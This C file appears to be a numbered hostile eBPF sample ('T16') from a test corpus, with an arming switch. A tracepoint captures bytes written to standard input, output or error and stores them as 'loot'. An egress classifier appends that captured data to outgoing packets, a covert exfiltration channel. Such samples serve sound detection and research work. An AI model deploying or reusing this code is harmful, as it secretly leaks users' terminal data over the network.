// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T16: an egress classifier appends what a tracepoint of the same object overheard to outgoing packets.
#include "net.h"

SAMPLE_SWITCH;
LICENSE;

struct loot {
	u32 len;
	u8 data[48];
};
HASH(loot, u32, struct loot, 16);

SEC("tp/syscalls/sys_enter_write")
int loot_write(struct tp_enter *ctx)
{
	struct loot l = {};
	u32 zero = 0;

	if (ctx->args[0] > 2 || ctx->args[2] < sizeof(l.data))
		return 0;
	bpf_probe_read_user(l.data, sizeof(l.data), (void *)ctx->args[1]);
	l.len = sizeof(l.data);
	bpf_map_update_elem(&loot, &zero, &l, BPF_ANY);
	return 0;
}

SEC("tc")
int loot_egress(struct __sk_buff *skb)
{
	u32 zero = 0, len = skb->len;
	struct loot *l = bpf_map_lookup_elem(&loot, &zero);

	if (!l || len < UDP_PAYLOAD_OFF || !sample_armed)
		return TC_ACT_OK;
	if (bpf_skb_change_tail(skb, len + sizeof(l->data), 0))
		return TC_ACT_OK;
	l = bpf_map_lookup_elem(&loot, &zero);
	if (!l)
		return TC_ACT_OK;
	bpf_skb_store_bytes(skb, len, l->data, sizeof(l->data), BPF_F_RECOMPUTE_CSUM);
	bpf_map_delete_elem(&loot, &zero);
	return TC_ACT_OK;
}
